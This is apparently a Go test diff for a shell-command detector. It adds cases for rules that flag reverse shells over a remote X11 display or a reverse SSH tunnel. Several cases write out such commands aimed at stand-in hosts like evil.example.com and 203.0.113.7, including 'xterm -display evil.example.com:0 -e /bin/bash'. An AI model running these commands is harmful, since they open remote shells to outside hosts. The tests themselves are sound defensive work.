@@ -53,3 +53,38 @@ func TestReverseShellScriptSocket(t *testing.T) {
 		cmdCase(`python3 -c 'import subprocess; subprocess.run(["ls"])'`, false),
 	})
 }
+
+func TestReverseShellX11Display(t *testing.T) {
+	runRuleCases(t, "revshell.x11-display", []ruleCase{
+		cmdCase("xterm -display 203.0.113.7:1", true),
+		cmdCase("xterm -display evil.example.com:0 -e /bin/bash", true),
+		cmdCase("nohup xterm -display 203.0.113.7:1 &", true),
+		cmdCase("DISPLAY=203.0.113.7:0 xterm", true),
+		cmdCase("env DISPLAY=evil.example.com:0.0 xterm", true),
+		cmdCase("sudo DISPLAY=203.0.113.7:0 xterm", true),
+		cmdCase("export DISPLAY=203.0.113.7:0; xterm &", true),
+		cmdCase("DISPLAY=tcp/evil.example.com:1 xclock", true),
+		cmdCase("gnome-terminal --display=203.0.113.7:0", true),
+		cmdCase(`sh -c "xterm -display 198.51.100.4:1"`, true),
+		cmdCase("xterm", false),
+		cmdCase("DISPLAY=:0 xclock", false),
+		cmdCase("xterm -display :1", false),
+		cmdCase("DISPLAY=localhost:10.0 xeyes", false),
+		cmdCase("DISPLAY=127.0.0.1:0 xterm", false),
+		cmdCase("DISPLAY=unix:0 xterm", false),
+		cmdCase("xterm -display $DISPLAY", false),
+		cmdCase("export DISPLAY=:99 && Xvfb :99 &", false),
+		cmdCase("DISPLAY=/private/tmp/com.apple.launchd.abc/org.xquartz:0 xterm", false),
+		cmdCase("echo DISPLAY=203.0.113.7:0", false),
+		cmdCase("grep -rn -- -display docs/", false),
+	})
+}
+
+func TestRevShellSSHTunnel(t *testing.T) {
+	runRuleCases(t, "revshell.ssh-tunnel", []ruleCase{
+		cmdCase("ssh -f -N -R 2222:localhost:22 tunnel@203.0.113.7", true),
+		cmdCase("ssh -NR 8080:localhost:3000 serveo.net", true),
+		cmdCase("ssh -L 5432:db.internal:5432 bastion.example.com", false),
+		cmdCase("ssh deploy@example.com uptime", false),
+	})
+}
